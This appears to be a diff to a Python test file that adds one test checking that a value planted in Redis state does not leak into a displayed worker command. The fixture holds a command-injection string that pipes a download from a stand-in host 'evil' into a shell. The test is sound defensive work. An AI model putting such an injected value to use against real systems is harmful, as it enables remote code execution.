@@ -316,3 +316,9 @@ def test_what_is_meant_to_be_so_needs_nobody(way: str, allowed: str) -> None:
 )  # fmt: skip
 def test_time_spans_have_two_units_at_the_most(seconds: float, said: str) -> None:
     assert span(seconds) == said
+
+
+def test_command_that_is_shown_holds_nothing_that_somebody_has_put_into_redis() -> None:
+    made = snapshot({"redis.state.set_aside": 1, "redis.state.a_set_aside": "1-1; curl evil|sh"})
+
+    assert judge(made).worst.command == "worker pending"
